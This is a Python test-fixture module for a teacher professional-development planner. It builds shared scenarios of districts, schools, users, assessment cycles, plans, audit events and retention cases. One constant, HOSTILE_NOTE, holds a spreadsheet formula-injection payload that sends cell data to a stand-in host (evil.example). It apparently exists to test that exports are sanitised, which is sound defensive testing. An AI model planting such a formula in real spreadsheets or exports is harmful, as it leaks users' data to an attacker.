"""The scenarios several test modules share, built once per module.

A builder here creates its people and data through the factories and services and returns a
namespace of model instances. `module_scenario` runs a builder once for a module and commits
it; the module's function-scoped fixture then calls `load` to get the same namespace with every
instance fetched in the test's own session (the test's changes are rolled back after it, see
tests/conftest.py). Every table is emptied when the module ends.
"""

from dataclasses import dataclass, fields, is_dataclass, replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace

from sqlalchemy import func, inspect, select, update

from pdplanner.accounts.models import Role, User
from pdplanner.accounts.services import create_token, issue_set_password_link
from pdplanner.assessments.evidence import evidence_path, store_evidence
from pdplanner.assessments.models import EvidenceFile
from pdplanner.assessments.services import (
    RatingInput,
    close_cycle,
    create_cycle,
    open_cycle,
    save_coach_ratings,
    save_self_ratings,
    set_sharing,
    submit_self_assessment,
)
from pdplanner.audit.models import AuditEvent
from pdplanner.audit.services import record, record_many
from pdplanner.cli import DEFAULT_CATALOGUE
from pdplanner.dashboards.models import SchoolSummary
from pdplanner.database import utcnow
from pdplanner.extensions import db, limiter
from pdplanner.planning.models import ActivityStatus, Cohort, PathActivity, Placement, PlannedGoal, Resource
from pdplanner.planning.services import import_catalogue, read_catalogue, run_plan, verify_activity
from tests.factories import create_district, create_school, create_user
from tests.helpers import load_default_framework, pdf_upload
from tests.route_table import World


def empty_every_table() -> None:
    db.session.rollback()
    db.session.remove()
    with db.engine.begin() as connection:
        for table in reversed(db.metadata.sorted_tables):
            connection.execute(table.delete())


class _Row:
    """A model instance remembered by class and primary key, to be fetched again per test."""

    def __init__(self, instance):
        self.model, self.key = type(instance), inspect(instance).identity


def _remember(value):
    if isinstance(value, dict):
        return {name: _remember(item) for name, item in value.items()}
    if isinstance(value, list):
        return [_remember(item) for item in value]
    if isinstance(value, SimpleNamespace):
        return SimpleNamespace(**_remember(vars(value)))
    if is_dataclass(value):
        return replace(value, **{f.name: _remember(getattr(value, f.name)) for f in fields(value)})
    if hasattr(type(value), "__mapper__"):
        return _Row(value)
    return value


def load(remembered):
    """The scenario as the builder returned it, each instance fetched in the current session."""
    if isinstance(remembered, _Row):
        return db.session.get(remembered.model, remembered.key)
    if isinstance(remembered, dict):
        return {name: load(item) for name, item in remembered.items()}
    if isinstance(remembered, list):
        return [load(item) for item in remembered]
    if isinstance(remembered, SimpleNamespace):
        return SimpleNamespace(**load(vars(remembered)))
    if is_dataclass(remembered):
        return replace(remembered, **{f.name: load(getattr(remembered, f.name)) for f in fields(remembered)})
    return remembered


def module_scenario(app, build):
    """The body of a module-scoped fixture: `yield from module_scenario(app, build)` builds and
    commits the scenario once and yields it remembered (pass it to `load` in each test)."""
    with app.app_context():
        built = build()
        db.session.commit()
        remembered = _remember(built)
        db.session.remove()
    yield remembered
    with app.app_context():
        empty_every_table()
    limiter.reset()


def evidence_on_disk() -> dict[Path, bytes]:
    """Every stored evidence file with its bytes, for a scenario whose tests delete files."""
    paths = (evidence_path(evidence) for evidence in db.session.scalars(select(EvidenceFile)))
    return {path: path.read_bytes() for path in paths}


def put_back(files: dict[Path, bytes]) -> None:
    """Write back the evidence files a previous test of the module deleted (the database rows
    come back by themselves, since each test's changes are rolled back)."""
    for path, content in files.items():
        path.write_bytes(content)


# -- the scenarios ---------------------------------------------------------------------------


def authorization_world() -> World:
    """test_authorization's world (tests/route_table.py, World): two districts, a planned teacher
    with a self-rating carrying evidence, a set-password link."""
    district = create_district("HOME")
    school, other_school = create_school(district, "S1"), create_school(district, "S2")
    w = World()
    coach = create_user(Role.COACH, school=school)
    w.people = {
        "coach": coach,
        "teacher": create_user(Role.TEACHER, school=school, coach=coach),
        "principal": create_user(Role.PRINCIPAL, school=school),
        "district_admin": create_user(Role.DISTRICT_ADMIN, district=district),
        "other_coach": create_user(Role.COACH, school=school),
        "other_principal": create_user(Role.PRINCIPAL, school=other_school),
        "stranger": create_user(Role.TEACHER, school=create_school(create_district("AWAY"))),
    }
    framework = load_default_framework()
    w.framework_id = framework.id
    cycle = create_cycle(district_id=district.id, name="Baseline", opens_on=date(2026, 9, 1),
                         closes_on=date(2026, 10, 15), framework=framework)
    open_cycle(cycle)
    w.cycle_id = cycle.id
    [rating] = save_self_ratings(w.people["teacher"], cycle, [RatingInput("COG.1", level=2)])
    rating.evidence_file_id = store_evidence(w.people["teacher"], pdf_upload()).id
    w.evidence_id = rating.evidence_file_id
    import_catalogue([{"key": "feedback-lab", "title": "Feedback lab", "kind": "workshop",
                       "competencies": ["COG.2"], "level_min": 1, "level_max": 2, "hours": 6.0,
                       "lanes": ["slow"], "description": "Practise feedback.", "evidence": ""}])
    w.resource_id = db.session.scalar(select(Resource.id))
    w.cohort_id, w.activity_id = _plan_for_teacher(cycle, w.people, w.resource_id)
    w.secret = issue_set_password_link(w.people["teacher"]).rsplit("/", 1)[1]
    return w


def _plan_for_teacher(cycle, people, resource_id) -> tuple[int, int]:
    teacher = people["teacher"]
    cohort = Cohort(cycle_id=cycle.id, key="s1-slow-cog2", lane="slow", focus="COG.2",
                    school_ids=list(teacher.school_ids()), coach_id=people["coach"].id)
    db.session.add(cohort)
    db.session.flush()
    db.session.add_all([
        Placement(cycle_id=cycle.id, educator_id=teacher.id, lane="slow", rated=1, at_target=0,
                  lowest_domain="COG", lowest_domain_mean=2.0, why="numbers", cohort_id=cohort.id),
        PlannedGoal(cycle_id=cycle.id, educator_id=teacher.id, competency_code="COG.2", from_level=2,
                    to_level=3, priority=1.0, rank=1, why="gap"),
    ])
    activity = PathActivity(cycle_id=cycle.id, educator_id=teacher.id, resource_id=resource_id,
                            competency_code="COG.2", position=0, status=ActivityStatus.DONE,
                            reflection="Tried it twice.")
    db.session.add(activity)
    db.session.flush()
    return cohort.id, activity.id


def town() -> SimpleNamespace:
    """A district with two schools: a teacher on a coach's caseload, their principal, a second
    teacher in the same school with no coach, a district admin, another school's principal,
    and a teacher of another district; the default framework and an open cycle."""
    district = create_district("TOWN")
    school, other_school = create_school(district, "NORTH"), create_school(district, "SOUTH")
    coach = create_user(Role.COACH, school=school, email="coach@town.org")
    t = SimpleNamespace(district=district, school=school, coach=coach)
    t.teacher = create_user(Role.TEACHER, school=school, coach=coach, email="teacher@town.org")
    t.colleague = create_user(Role.TEACHER, school=school, email="colleague@town.org")
    t.principal = create_user(Role.PRINCIPAL, school=school, email="principal@town.org")
    t.admin = create_user(Role.DISTRICT_ADMIN, district=district, email="admin@town.org")
    t.other_principal = create_user(Role.PRINCIPAL, school=other_school)
    t.stranger = create_user(Role.TEACHER, school=create_school(create_district("AWAY")))
    t.framework = load_default_framework()
    t.cycle = create_cycle(district_id=district.id, name="Baseline", opens_on=date(2026, 9, 1),
                           closes_on=date(2026, 10, 15), framework=t.framework)
    open_cycle(t.cycle)
    return t


def plan_town(town: SimpleNamespace) -> SimpleNamespace:
    """`town`, planned: a catalogue activity on COG.2, a proposed cohort of the teacher's school led
    by the coach with the teacher in it, the teacher's goal on COG.2 and that activity on their
    path, done with a reflection; the teacher's self-rating of COG.1."""
    import_catalogue([{"key": "feedback-lab", "title": "Feedback lab", "kind": "workshop",
                       "competencies": ["COG.2"], "level_min": 1, "level_max": 3, "hours": 6.0,
                       "lanes": ["slow", "fast"], "description": "Practise feedback.", "evidence": ""}])
    town.resource = db.session.scalar(select(Resource))
    save_self_ratings(town.teacher, town.cycle, [RatingInput("COG.1", level=2)])
    town.cohort = Cohort(cycle_id=town.cycle.id, key="north-slow-cog2", lane="slow", focus="COG.2",
                         school_ids=[town.school.id], coach_id=town.coach.id)
    db.session.add(town.cohort)
    db.session.flush()
    db.session.add_all([
        Placement(cycle_id=town.cycle.id, educator_id=town.teacher.id, lane="slow", rated=1,
                  at_target=0, lowest_domain="COG", lowest_domain_mean=2.0, why="1 of 19 at target",
                  cohort_id=town.cohort.id),
        Placement(cycle_id=town.cycle.id, educator_id=town.colleague.id, lane="fast", rated=0,
                  at_target=0, why="not rated yet", individual_reason="no cohort fits"),
        PlannedGoal(cycle_id=town.cycle.id, educator_id=town.teacher.id, competency_code="COG.2",
                    from_level=2, to_level=3, priority=1.0, rank=1, why="gap of one level"),
    ])
    town.activity = PathActivity(cycle_id=town.cycle.id, educator_id=town.teacher.id,
                                 resource_id=town.resource.id, competency_code="COG.2", position=0,
                                 status=ActivityStatus.DONE, reflection="Tried it twice.")
    db.session.add(town.activity)
    db.session.commit()
    return town


@dataclass
class Scene:
    school: object
    coach: object
    teacher: object
    principal: object
    admin: object
    cycle: object


def assessment_scene() -> Scene:
    """A school with a teacher on a coach's caseload, their principal, a district admin and an
    open cycle on the default framework."""
    school = create_school()
    coach = create_user(Role.COACH, school=school, given_name="Cora")
    teacher = create_user(Role.TEACHER, school=school, coach=coach, given_name="Tess")
    principal = create_user(Role.PRINCIPAL, school=school)
    admin = create_user(Role.DISTRICT_ADMIN, district=school.district)
    cycle = create_cycle(district_id=school.district_id, name="2026-27 baseline",
                         opens_on=date(2026, 9, 1), closes_on=date(2026, 10, 15),
                         framework=load_default_framework())
    open_cycle(cycle)
    return Scene(school, coach, teacher, principal, admin, cycle)


@dataclass
class PlannedSchool:
    cycle: object
    school: object
    coach: object
    principal: object
    teachers: list
    cohort: object
    other_coach: object
    other_principal: object


def rate_everything(cycle, educator, coach, level: int) -> None:
    items = [RatingInput(c.code, level=level) for c in cycle.framework.competencies]
    save_self_ratings(educator, cycle, items)
    save_coach_ratings(coach, educator, cycle, items)


def planned_school() -> PlannedSchool:
    """A small planned school: four teachers rated 2 everywhere by themselves and their coach, so
    the planner puts all four in the second lane and in one cohort on COG.1 (the first
    foundational competency), led by their coach."""
    district = create_district("PLAN")
    school, elsewhere = create_school(district, "P1"), create_school(district, "P2")
    coach = create_user(Role.COACH, school=school, given_name="Cora")
    teachers = [create_user(Role.TEACHER, school=school, coach=coach, given_name=f"T{i}") for i in range(4)]
    framework = load_default_framework()
    cycle = create_cycle(district_id=district.id, name="Autumn", opens_on=date(2026, 9, 1),
                         closes_on=date(2026, 12, 15), framework=framework)
    open_cycle(cycle)
    import_catalogue(read_catalogue(DEFAULT_CATALOGUE))
    for teacher in teachers:
        rate_everything(cycle, teacher, coach, 2)
    run_plan(cycle)
    db.session.flush()
    return PlannedSchool(
        cycle=cycle, school=school, coach=coach, principal=create_user(Role.PRINCIPAL, school=school),
        teachers=teachers, cohort=db.session.scalar(select(Cohort).where(Cohort.cycle_id == cycle.id)),
        other_coach=create_user(Role.COACH, school=school),
        other_principal=create_user(Role.PRINCIPAL, school=elsewhere))


HOSTILE_NOTE = '=HYPERLINK("http://evil.example/steal?x="&A1, "click")'


@dataclass
class ExportDistrict:
    cycle: object
    away_cycle: object
    people: dict


def rate(cycle, educator, level: int, note: str = "") -> None:
    items = [RatingInput(c.code, level=level, confidence="medium", note=note)
             for c in cycle.framework.competencies]
    items[1] = RatingInput(items[1].competency, not_observed=True, interest=True)
    save_self_ratings(educator, cycle, items)


def export_district() -> ExportDistrict:
    """A planned district for the export tests, with someone in every position of SPEC section 9.

    School S1: coach Cora with teachers Ann (who did not share) and Ben (who shared the cycle with his
    principal) on her caseload; coach Otto with teacher Cal (not shared); principal Pia. School S2:
    teacher Dee (shared), principal Pam. A district admin. In another district: Sam, with ratings of
    his own. Everyone is planned, so there are goals, lanes, cohorts and activities."""
    home = create_district("HOME")
    s1, s2 = create_school(home, "S1"), create_school(home, "S2")
    cora = create_user(Role.COACH, school=s1, given_name="Cora", email="cora@home.org")
    otto = create_user(Role.COACH, school=s1, given_name="Otto", email="otto@home.org")
    people = {
        "cora": cora, "otto": otto,
        "ann": create_user(Role.TEACHER, school=s1, coach=cora, given_name="Ann", email="ann@home.org"),
        "ben": create_user(Role.TEACHER, school=s1, coach=cora, given_name="Ben", email="ben@home.org"),
        "cal": create_user(Role.TEACHER, school=s1, coach=otto, given_name="Cal", email="cal@home.org"),
        "dee": create_user(Role.TEACHER, school=s2, given_name="Dee", email="dee@home.org"),
        "pia": create_user(Role.PRINCIPAL, school=s1, given_name="Pia", email="pia@home.org"),
        "pam": create_user(Role.PRINCIPAL, school=s2, given_name="Pam", email="pam@home.org"),
        "admin": create_user(Role.DISTRICT_ADMIN, district=home, given_name="Ada", email="ada@home.org"),
    }
    away = create_district("AWAY")
    people["sam"] = create_user(Role.TEACHER, school=create_school(away, "A1"), given_name="Sam",
                                email="sam@away.org")
    framework = load_default_framework()
    import_catalogue(read_catalogue(DEFAULT_CATALOGUE))
    cycle = create_cycle(district_id=home.id, name="2026-27 baseline", opens_on=date(2026, 9, 1),
                         closes_on=date(2026, 10, 15), framework=framework)
    open_cycle(cycle)
    away_cycle = create_cycle(district_id=away.id, name="Away baseline", opens_on=date(2026, 9, 1),
                              closes_on=date(2026, 10, 15), framework=framework)
    open_cycle(away_cycle)
    rate(cycle, people["ann"], 2, note=HOSTILE_NOTE)
    rate(cycle, people["ben"], 3, note="+1 for peer feedback")
    rate(cycle, people["cal"], 2, note="-cal's note")
    rate(cycle, people["dee"], 1, note="@dee")
    rate(cycle, cora, 3)
    rate(away_cycle, people["sam"], 2, note="away")
    save_coach_ratings(cora, people["ann"], cycle, [RatingInput("COG.1", level=1, note="@coach on ann")])
    save_coach_ratings(otto, people["cal"], cycle, [RatingInput("COG.1", level=3)])
    set_sharing(people["ben"], cycle, True)
    set_sharing(people["dee"], cycle, True)
    run_plan(cycle)
    run_plan(away_cycle)
    return ExportDistrict(cycle, away_cycle, people)


class District:
    """A district with `schools` schools of `teachers` teachers each, rated and planned."""

    def __init__(self, db, schools: int = 1, teachers: int = 6, level: int = 2, submitted: bool = False):
        self.district = create_district()
        framework = load_default_framework()
        self.cycle = create_cycle(district_id=self.district.id, name="Autumn", opens_on=date(2026, 9, 1),
                                  closes_on=date(2026, 12, 15), framework=framework)
        open_cycle(self.cycle)
        import_catalogue(read_catalogue(DEFAULT_CATALOGUE))
        self.schools, self.teachers, self.coaches, self.principals = [], [], [], []
        for _ in range(schools):
            school = create_school(self.district)
            coach = create_user(Role.COACH, school=school)
            self.schools.append(school)
            self.coaches.append(coach)
            self.principals.append(create_user(Role.PRINCIPAL, school=school))
            for _ in range(teachers):
                teacher = create_user(Role.TEACHER, school=school, coach=coach)
                items = [RatingInput(c.code, level=level) for c in framework.competencies]
                save_self_ratings(teacher, self.cycle, items)
                save_coach_ratings(coach, teacher, self.cycle, items)
                if submitted:   # only submitted self-assessments reach leaders' figures
                    submit_self_assessment(teacher, self.cycle)
                self.teachers.append(teacher)
        self.admin = create_user(Role.DISTRICT_ADMIN, district=self.district)
        run_plan(self.cycle)
        db.session.commit()

    def summaries(self, db) -> int:
        return db.session.scalar(select(func.count()).select_from(SchoolSummary)
                                 .where(SchoolSummary.cycle_id == self.cycle.id))


AUDIT_BULK = 230   # more than the 200 events the audit page used to stop at


def audit_town() -> SimpleNamespace:
    """The audit log's district: an admin, a coach who verified her teacher's activity, more
    events than the page once stopped at, people created "in January" for the date filter, and
    another district whose events the admin must never see."""
    t = SimpleNamespace()
    home = create_district("HOME")
    school = create_school(home, "S1", "North School")
    t.admin = create_user(Role.DISTRICT_ADMIN, district=home, given_name="Ada", family_name="Admin",
                          email="ada@home.org")
    t.nadia = create_user(Role.COACH, school=school, given_name="Nadia", family_name="Hoffmann",
                          email="nadia@home.org")
    t.mateo = create_user(Role.TEACHER, school=school, coach=t.nadia, given_name="Mateo",
                          family_name="Chen", email="mateo@home.org")
    away = create_district("AWAY")
    t.away_admin = create_user(Role.DISTRICT_ADMIN, district=away, given_name="Otto", family_name="Away",
                               email="otto@away.org")
    t.sam = create_user(Role.TEACHER, school=create_school(away, "A1"), given_name="Sam",
                        family_name="Faraway", email="sam@away.org")
    record("sign_in.succeeded", actor=t.sam, subject=t.sam)
    cycle = create_cycle(district_id=home.id, name="Autumn", opens_on=date(2026, 9, 1),
                         closes_on=date(2026, 12, 15), framework=load_default_framework())
    open_cycle(cycle)
    import_catalogue([{"key": "feedback-lab", "title": "Feedback lab", "kind": "workshop",
                       "competencies": ["COG.2"], "level_min": 1, "level_max": 2, "hours": 6.0,
                       "lanes": ["slow"], "description": "Practise feedback.", "evidence": ""}])
    activity = PathActivity(cycle_id=cycle.id, educator_id=t.mateo.id, competency_code="COG.2", position=0,
                            resource_id=db.session.scalar(select(Resource.id)), status=ActivityStatus.DONE)
    db.session.add(activity)
    db.session.flush()
    verify_activity(activity, actor=t.nadia, goal_met=False)
    record_many("user.updated", actor=t.admin, district_id=home.id,
                subjects=[("user", t.admin.id, {"changes": [f"step {i}"]}) for i in range(AUDIT_BULK)])
    db.session.commit()
    # The people were created "in January", for the date filter.
    db.session.execute(update(User).values(created_at=datetime(2026, 1, 15, 11, tzinfo=UTC)))
    db.session.execute(update(AuditEvent).where(AuditEvent.action.in_(["user.created", "role.granted"]))
                       .values(occurred_at=datetime(2026, 1, 15, 12, tzinfo=UTC)))
    db.session.commit()
    t.home_total = db.session.scalar(select(func.count()).select_from(AuditEvent)
                                     .where(AuditEvent.district_id == home.id))
    return t


@dataclass
class DeletionScene:
    admin: object
    coach: object
    ann: object
    ben: object
    ann_file: Path
    coach_file: Path
    ben_file: Path
    files: dict


def deletion_scene() -> DeletionScene:
    """Coach Cora with teachers Ann and Ben, both rated, planned and with an evidence file on a
    self-rating; Cora's coach rating of Ann carries a file too; Ann has an API token and a
    set-password link; a district admin."""
    school = create_school()
    admin = create_user(Role.DISTRICT_ADMIN, district=school.district, email="ada@example.org")
    coach = create_user(Role.COACH, school=school, given_name="Cora")
    ann = create_user(Role.TEACHER, school=school, coach=coach, given_name="Ann", email="ann@example.org")
    ben = create_user(Role.TEACHER, school=school, coach=coach, given_name="Ben")
    cycle = create_cycle(district_id=school.district_id, name="Baseline", opens_on=date(2026, 9, 1),
                         closes_on=date(2026, 10, 15), framework=load_default_framework())
    open_cycle(cycle)
    import_catalogue(read_catalogue(DEFAULT_CATALOGUE))
    files = {}
    for person in (ann, ben):
        ratings = save_self_ratings(person, cycle, [RatingInput(c.code, level=2)
                                                    for c in cycle.framework.competencies])
        upload = pdf_upload(body=b"%PDF-1.4 " + person.email.encode())
        ratings[0].evidence_file_id = store_evidence(person, upload).id
        files[person.id] = evidence_path(ratings[0].evidence_file)
    [coach_rating] = save_coach_ratings(coach, ann, cycle, [RatingInput("COG.1", level=1)])
    coach_rating.evidence_file_id = store_evidence(coach, pdf_upload(body=b"%PDF-1.4 coach on ann")).id
    coach_file = evidence_path(coach_rating.evidence_file)
    run_plan(cycle)
    create_token(ann, "script")
    issue_set_password_link(ann)
    return DeletionScene(admin, coach, ann, ben, files[ann.id], coach_file, files[ben.id],
                         evidence_on_disk())


@dataclass
class RetentionScene:
    district: object
    admin: object
    teacher: object
    old: object          # closed three years ago, with ratings, a plan and an evidence file
    recent: object       # closed 45 days ago
    old_draft: object    # never opened, dated long ago
    current: object      # open
    old_file: Path
    away_old: object     # another district's old closed cycle, past its 12-month period
    files: dict


def _cycle_with_ratings(framework, district, name, opens_on, closes_on, teachers, *, close=True):
    """A cycle in which `teachers` rated themselves and were planned (three make a cohort)."""
    cycle = create_cycle(district_id=district.id, name=name, opens_on=opens_on, closes_on=closes_on,
                         framework=framework)
    open_cycle(cycle)
    ratings = [save_self_ratings(t, cycle, [RatingInput(c.code, level=2) for c in framework.competencies])
               for t in teachers][0]
    run_plan(cycle)
    if close:
        close_cycle(cycle)
    return cycle, ratings


def retention_scene() -> RetentionScene:
    """A district without a retention period and cycles of every age and state, three teachers
    rated and planned in each; another district with a 12-month period and one old closed cycle."""
    today = utcnow().date()
    district = create_district("HOME")
    school = create_school(district, "S1")
    coach = create_user(Role.COACH, school=school)
    teachers = [create_user(Role.TEACHER, school=school, coach=coach) for _ in range(3)]
    admin = create_user(Role.DISTRICT_ADMIN, district=district)
    framework = load_default_framework()
    import_catalogue(read_catalogue(DEFAULT_CATALOGUE))
    old, ratings = _cycle_with_ratings(framework, district, "Old", today - timedelta(days=3 * 365 + 60),
                                       today - timedelta(days=3 * 365), teachers)
    ratings[0].evidence_file_id = store_evidence(teachers[0], pdf_upload()).id
    old_file = evidence_path(ratings[0].evidence_file)
    recent, _ = _cycle_with_ratings(framework, district, "Recent", today - timedelta(days=100),
                                    today - timedelta(days=45), teachers)
    old_draft = create_cycle(district_id=district.id, name="Old draft", opens_on=date(2019, 1, 1),
                             closes_on=date(2019, 2, 1), framework=framework)
    current, _ = _cycle_with_ratings(framework, district, "Current", today - timedelta(days=10),
                                     today + timedelta(days=30), teachers, close=False)
    away = create_district("AWAY", name="Away")
    away_teacher = create_user(Role.TEACHER, school=create_school(away, "A1"))
    away_old, _ = _cycle_with_ratings(framework, away, "Away old", date(2020, 9, 1), date(2020, 10, 1),
                                      [away_teacher])
    away.retention_months = 12
    return RetentionScene(district, admin, teachers[0], old, recent, old_draft, current, old_file, away_old,
                          evidence_on_disk())
